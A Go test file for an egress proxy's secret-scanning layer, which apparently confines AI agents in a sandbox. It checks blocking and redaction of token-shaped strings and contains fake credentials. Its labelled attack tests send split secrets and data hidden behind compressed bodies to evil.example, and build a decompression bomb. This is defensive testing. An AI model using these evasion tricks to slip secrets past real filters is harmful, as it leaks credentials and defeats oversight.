package egress

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/bot-bottle/bot-bottle/internal/audit"
	"github.com/bot-bottle/bot-bottle/internal/control"
	"github.com/bot-bottle/bot-bottle/internal/dlp"
	"github.com/bot-bottle/bot-bottle/internal/policy"
)

// githubToken has the shape of a real one.
const githubToken = "ghp_" + "k7Qw2ZpX9LmN4vTb8RsY1cHd6FgJ3aK4m9Tz"

// stripeKey has the shape of a real one.
const stripeKey = "sk_live_" + "9aZ3kQ7mT2xW5vB8nR4c"

// jwt is one that an upstream could have given to the bottle.
var jwt = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." + base64.RawURLEncoding.EncodeToString([]byte(`{"sub":"1234567890","name":"A. Nother"}`)) + ".SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"

// arrived remembers the requests that reached an upstream.
type arrived struct {
	heads, bodies safeBuffer
}

func (a *arrived) handler(_ http.ResponseWriter, r *http.Request) {
	_ = r.Header.Write(&a.heads)
	_, _ = io.WriteString(&a.heads, r.URL.String())
	_, _ = io.Copy(&a.bodies, r.Body)
}

// What looks like a secret of somebody's does not leave, in whichever part of the request,
// but for its own provider; the default for each part, and what the manifest says instead.
func TestTokensOfKnownShapes(t *testing.T) {
	got := &arrived{}
	up := newOrigin(t, got.handler)
	plain, hub, keyed := up.route("plain.example", nil), up.route("api.github.com", nil), up.route("keyed.example", keyAuth())
	lax, strict := up.route("lax.example", nil), up.route("strict.example", nil)
	lax.Scan = map[string]dlp.Action{"*": "alert", "stripe-key": "redact"}
	strict.Scan = map[string]dlp.Action{"jwt": "block"}
	guarded := up.route("guarded.example", nil)
	guarded.Scan = map[string]dlp.Action{dlp.RuleAssigned: "block"}
	l := newLab(t, plain, hub, keyed, lax, strict, guarded)
	token := githubToken
	for name, c := range map[string]struct {
		target, header, value, body string
		want                        int
		arrives                     string // in the body, where that is not body
	}{
		"body":                             {"https://plain.example/", "", "", `{"a":"` + token + `"}`, 403, ""},
		"body, encoded":                    {"https://plain.example/", "", "", base64.StdEncoding.EncodeToString([]byte("xy " + token)), 403, ""},
		"path":                             {"https://plain.example/" + token, "", "", "", 403, ""},
		"query":                            {"https://plain.example/?q=" + token, "", "", "", 403, ""},
		"header":                           {"https://plain.example/", "X-Data", "a " + token, "", 403, ""},
		"at home":                          {"https://api.github.com/", "Authorization", "token " + token, token, 200, ""},
		"another's at home":                {"https://api.github.com/", "X-Data", stripeKey, "", 403, ""},
		"taken off anyway":                 {"https://keyed.example/", "Authorization", "Bearer " + token, "", 200, ""},
		"not taken off":                    {"https://keyed.example/", "X-Data", token, "", 403, ""},
		"a JWT in the head":                {"https://plain.example/?jwt=" + jwt, "Authorization", "Bearer " + jwt, "", 200, ""},
		"a JWT in the body":                {"https://plain.example/", "", "", jwt, 403, ""},
		"assigned to a name":               {"https://plain.example/?token=q7Zk2Wm9XcV4tR8bLh3Nf6Js", "", "", "password=q7Zk2Wm9XcV4tR8bLh3Nf6Js", 200, ""},
		"assigned, and not wanted":         {"https://guarded.example/", "", "", "password=q7Zk2Wm9XcV4tR8bLh3Nf6Js", 403, ""},
		"a JWT where the manifest says no": {"https://strict.example/", "Authorization", "Bearer " + jwt, "", 403, ""},
		"only told of":                     {"https://lax.example/" + token, "X-Data", token, token, 200, ""},
		"taken out":                        {"https://lax.example/", "", "", "it is " + stripeKey + " or so", 200, "it is [redacted:stripe-key] or so"},
		"taken out of a head":              {"https://lax.example/?k=" + stripeKey, "", "", "", 403, ""},
		"a placeholder all the same":       {"https://lax.example/", "", "", placeholder, 403, ""},
		"a value all the same":             {"https://lax.example/?" + otherReal, "", "", "", 403, ""},
		"to a model":                       {"https://plain.example/v1/messages", "", "", `{"m":["` + token + `", "x"]}`, 200, `{"m":["[redacted:github-token]", "x"]}`},
		"to a model, encoded":              {"https://plain.example/v1/messages", "", "", `{"m":"` + base64.StdEncoding.EncodeToString([]byte("xy "+token+" z")) + `"}`, 200, "*"},
		"to a model, a placeholder":        {"https://plain.example/v1/messages", "", "", `{"m":"` + placeholder + `"}`, 403, ""},
		"to a model, its own placeholder":  {"https://keyed.example/v1/messages", "X-Api-Key", placeholder, `{"m":"` + placeholder + `"}`, 200, ""},
	} {
		for _, h2 := range []bool{false, true} {
			got.heads.take()
			got.bodies.take()
			r := request(t, "POST", c.target, strings.NewReader(c.body))
			r.Header.Set("Content-Type", "application/json; charset=utf-8")
			if c.header != "" {
				r.Header.Set(c.header, c.value)
			}
			response, said := get(t, l.client(t, h2), r)
			heads, body := got.heads.take(), got.bodies.take()
			want := c.body
			if c.arrives != "" {
				want = c.arrives
			}
			switch {
			case response.StatusCode != c.want:
				t.Errorf("%s: got %s %s", name, response.Status, said)
			case c.want == 403 && (heads != "" || !strings.Contains(said, "secret_leak")):
				t.Errorf("%s: %q arrived, and it was told %s", name, heads, said)
			case c.want == 200 && body != want && c.arrives != "*":
				t.Errorf("%s: %q arrived", name, body)
			case c.arrives == "*" && (strings.Contains(body, base64.StdEncoding.EncodeToString([]byte("xy "+token))) || len(body) == 0):
				t.Errorf("%s: %q arrived", name, body)
			}
		}
	}
	if strings.Contains(l.events.String(), token) || strings.Contains(l.events.String(), stripeKey) {
		t.Error("a token is in the audit log")
	}
}

// Whatever is found is in the event of its request, with what was done about it.
func TestFindingsAreOnRecord(t *testing.T) {
	up := newOrigin(t, func(http.ResponseWriter, *http.Request) {})
	l := newLab(t, up.route("plain.example", nil))
	client := l.client(t, true)
	send := func(target, body string) {
		r := request(t, "POST", "https://plain.example"+target, strings.NewReader(body))
		r.Header.Set("Content-Type", "application/json")
		get(t, client, r)
	}
	send("/v1/messages?jwt="+jwt, `{"m":"`+githubToken+` and `+githubToken+`"}`)
	send("/block", `{"m":"`+base64.StdEncoding.EncodeToString([]byte("xy "+githubToken))+`"}`)
	send("/own", `{"m":"`+placeholder+`"}`)
	want := map[string][]audit.Finding{
		"/v1/messages": {{Rule: "jwt", Part: "head", Action: "alert"}, {Rule: "github-token", Part: "body", Action: "redact"}},
		"/block":       {{Rule: "github-token", Part: "body", Action: "block", Encoding: "base64"}},
		"/own":         {{Rule: "known-placeholder", Secret: "KEY", Part: "body", Action: "block"}},
	}
	for path, findings := range want {
		e := l.awaitEvent(t, path, func(e audit.Event) bool { return e.Path == path })
		if !slices.Equal(e.Findings, findings) || (e.Decision == audit.Deny) != (path != "/v1/messages") {
			t.Errorf("%s: got %s %+v", path, e.Decision, e.Findings)
		}
	}
}

// Attack C7: a secret of the bottle's comes bit by bit: split in one body, over a head and
// a body, over the requests to another host. Who has none of it is not refused for what
// others had.
func TestAttackC7_SplitOverRequests(t *testing.T) {
	const split = "kQ7vZ2mXw9RtYb4LcN8sHd1F"
	up := newOrigin(t, func(http.ResponseWriter, *http.Request) {})
	newLab := func() func(target, body string) int {
		l := newLabWith(t, func(s *Server) {
			cfg := control.EgressConfig{Routes: []policy.Route{up.route("evil.example", nil)}, Secrets: []control.Secret{{Name: "KEY", Value: split, Placeholder: placeholder}}}
			if err := s.Apply(cfg); err != nil {
				t.Fatal(err)
			}
		})
		return func(target, body string) int {
			response, _ := get(t, l.client(t, true), request(t, "POST", "https://evil.example"+target, strings.NewReader(body)))
			return response.StatusCode
		}
	}
	parts := []string{split[:8], split[8:16], split[16:]}
	send := newLab()
	if quoted, _ := json.Marshal(parts); send("/", string(quoted)) != 403 {
		t.Error("in a list: it passed")
	}
	if code := send("/?a="+parts[0]+"&b="+parts[1], "and "+parts[2]); code != 403 {
		t.Errorf("over head and body: got %d", code)
	}
	send = newLab()
	for i, want := range []int{200, 200, 403, 403} {
		if code := send(fmt.Sprintf("/%d", i), parts[min(i, 2)]); code != want {
			t.Errorf("over requests, the %d. one: got %d, want %d", i+1, code, want)
		}
		if code := send("/", "nothing of it"); code != 200 {
			t.Errorf("one without any of it: got %d", code)
		}
	}
}

// A body is sent with something taken out of it; what decides by the body is asked again,
// and what is coded is sent decoded.
func TestRedactedBodies(t *testing.T) {
	got := &arrived{}
	up := newOrigin(t, got.handler)
	pinned := up.route("pinned.example", nil)
	pinned.Body = map[string]string{"org": "*"}
	l := newLab(t, up.route("plain.example", nil), pinned)
	body := `{"org":"acme","m":"` + githubToken + `"}`
	clean := `{"org":"acme","m":"[redacted:github-token]"}`
	for _, coding := range []string{"identity", "gzip", "zstd", "br"} {
		for _, known := range []bool{true, false} {
			for _, host := range []string{"plain.example", "pinned.example"} {
				if host == "pinned.example" && coding != "identity" {
					continue // no condition holds for what is coded
				}
				got.bodies.take()
				var data io.Reader = strings.NewReader(string(pack(t, coding, []byte(body))))
				if !known {
					data = io.MultiReader(data)
				}
				r := request(t, "POST", "https://"+host+"/v1/messages", data)
				r.Header.Set("Content-Type", "application/json")
				r.Header.Set("Content-Encoding", coding)
				r.Header.Set("Content-Digest", "sha-256=:x:")
				response, said := get(t, l.client(t, true), r)
				if response.StatusCode != 200 || got.bodies.take() != clean {
					t.Errorf("%s to %s: got %s %s", coding, host, response.Status, said)
				}
			}
		}
	}
	if heads := got.heads.String(); strings.Contains(heads, "Digest") || strings.Contains(heads, "gzip") {
		t.Errorf("the head still tells of the body that it was: %s", heads)
	}
}

// Attack J4: a body that is packed twice, of which a few KB are hours of blocks with nothing in them.
func TestAttackJ4_ABodyOfEmptyBlocks(t *testing.T) {
	empty := strings.Repeat("\x00\x00\x00\xff\xff", 2<<20) // stored, each of no bytes (RFC 1951, 3.2.4)
	data := packed(t, "zstd", "\x78\x9c") + strings.Repeat(packed(t, "zstd", empty), maxDecoded/len(empty)+1)
	opened, err := undo([]byte(data), []string{"deflate", "zstd"}, maxDecoded)
	if err != nil {
		t.Fatal(err)
	}
	if n, err := io.Copy(io.Discard, opened); n > 0 || err == nil || !strings.Contains(err.Error(), "between the codings") {
		t.Errorf("got %d bytes, %v", n, err)
	}
	if err := opened.Close(); err != nil {
		t.Error(err)
	}
}

// Attack C7: what stands behind the end of a compressed body was looked into by nobody.
func TestAttackC7_BehindTheEndOfWhatIsCoded(t *testing.T) {
	got := &arrived{}
	up := newOrigin(t, got.handler)
	l := newLab(t, up.route("evil.example", nil))
	for _, coding := range []string{"gzip", "deflate", "br", "zstd"} {
		r := request(t, "POST", "https://evil.example/", strings.NewReader(string(pack(t, coding, []byte("hello")))+placeholder))
		r.Header.Set("Content-Encoding", coding)
		if response, said := get(t, l.client(t, true), r); response.StatusCode == 200 || got.bodies.take() != "" {
			t.Errorf("%s: got %s %s", coding, response.Status, said)
		}
	}
}

// A rule or an action that is none is no configuration.
func TestActionsAreChecked(t *testing.T) {
	ca, _ := newCA(t)
	for name, c := range map[string]control.EgressConfig{
		"rule":   {Scan: map[string]dlp.Action{"no-such-rule": "block"}},
		"action": {Scan: map[string]dlp.Action{"*": "allow"}},
		"known":  {Scan: map[string]dlp.Action{"known-value": "alert"}},
		"route":  {Routes: []policy.Route{{Host: "a.example", Scan: map[string]dlp.Action{"jwt": "pass"}}}},
	} {
		c.CACert, c.CAKey = ca.CertPEM, ca.KeyPEM
		if _, err := New(c, audit.NewWriter(io.Discard), nil, nil); err == nil {
			t.Errorf("%s: taken", name)
		}
	}
}

// A client that goes away while its upload is searched has given up; it was not refused, and
// the log must not say so.
func TestAClientThatGoesAwayIsNotRefused(t *testing.T) {
	l := newLab(t, policy.Route{Host: "api.example"})
	now := l.server.rules.Load()
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	for range 100 { // it may notice before or after it begins
		q := &search{scanner: now.scanner, host: "api.example", route: &now.routes[0].route}
		look, stream, err := q.pieces(ctx, inBody, q.bodyInput(""))
		if err != nil {
			t.Fatal(err)
		}
		defer stream.Close()
		if err := look([]byte("hello")); !errors.Is(err, context.Canceled) {
			t.Fatalf("got %v", err)
		}
	}
}
